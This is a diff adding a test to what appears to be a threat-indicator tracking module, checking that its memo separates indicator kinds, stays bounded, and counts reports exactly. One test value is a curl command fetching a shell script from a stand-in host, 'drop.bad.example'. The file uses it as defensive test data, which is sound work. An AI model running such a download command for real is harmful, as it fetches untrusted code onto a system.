@@ -5,6 +5,7 @@ import { APPLICATION_DATES, AMENDMENT } from '../src/compliance/dates.js';
 import { OBLIGATIONS } from '../src/compliance/obligations.js';
 import { mergeScore } from '../src/enhance/enhancer.js';
 import { flaggedDomains, IndicatorBook } from '../src/intel/indicators.js';
+import { sha256Hex } from '../src/checks/value-hash.js';
 import type { CheckResult } from '../src/engine/types.js';
 
 const result = (score: number, threats: Array<[string, number]>): CheckResult => ({
@@ -37,6 +38,38 @@ test('IndicatorBook publishes an indicator only from two accounts; anonymous tra
   assert.equal(book.published(now).length, 0);
   book.recordDanger('url', 'http://y.bad.example/b', 'acct_2', now);
   assert.deepEqual(book.published(now).map((i) => `${i.kind}:${i.value}`), ['domain:bad.example']);
+});
+
+test('IndicatorBook memo: per type, bounded, and the same counts as without it', () => {
+  const now = Date.now();
+  const book = new IndicatorBook(2);
+  const value = 'curl -s http://drop.bad.example/x.sh';
+  const byKind = () => new Map(book.published(now, 1000).map((i) => [`${i.kind}:${i.value}`, i.count]));
+  // the same text as a command names a download host; as text it is only its hash: the memo must not mix the two
+  for (const account of ['acct_1', 'acct_2']) {
+    book.recordDanger('command', value, account, now);
+    book.recordDanger('text', value, account, now);
+  }
+  assert.deepEqual(byKind(), new Map([[`value_hash:${sha256Hex(value)}`, 4], ['domain:bad.example', 2]]));
+  // many distinct short values: the memo is dropped when full, never grows past its bound, and counting goes on exactly
+  let hashOfCalls = 0;
+  const distinct = 10_000;
+  for (let i = 0; i < distinct; i++) {
+    book.recordDanger('url', `http://h${i}.bad.example/`, 'acct_1', now, () => { hashOfCalls++; return sha256Hex(`http://h${i}.bad.example/`); });
+    assert.ok(book.memoEntries <= 4096, 'the memo stays within its bound');
+  }
+  assert.equal(hashOfCalls, distinct, 'each new value is hashed once');
+  book.recordDanger('url', `http://h${distinct - 1}.bad.example/`, 'acct_2', now, () => { hashOfCalls++; return sha256Hex(`http://h${distinct - 1}.bad.example/`); });
+  assert.equal(hashOfCalls, distinct, 'a value still in the memo is not hashed again');
+  assert.equal(byKind().get('domain:bad.example'), 2 + distinct + 1, 'every DANGER result counted');
+  assert.equal(byKind().get(`value_hash:${sha256Hex(`http://h${distinct - 1}.bad.example/`)}`), 2);
+  // a value longer than the memo's limit is counted the same, only never remembered
+  const long = `http://long.bad.example/${'a'.repeat(400)}`;
+  const held = book.memoEntries;
+  book.recordDanger('url', long, 'acct_1', now);
+  book.recordDanger('url', long, 'acct_2', now);
+  assert.equal(book.memoEntries, held);
+  assert.equal(byKind().get(`value_hash:${sha256Hex(long)}`), 2);
 });
 
 test('normalise makes whole-word search a substring search', () => {
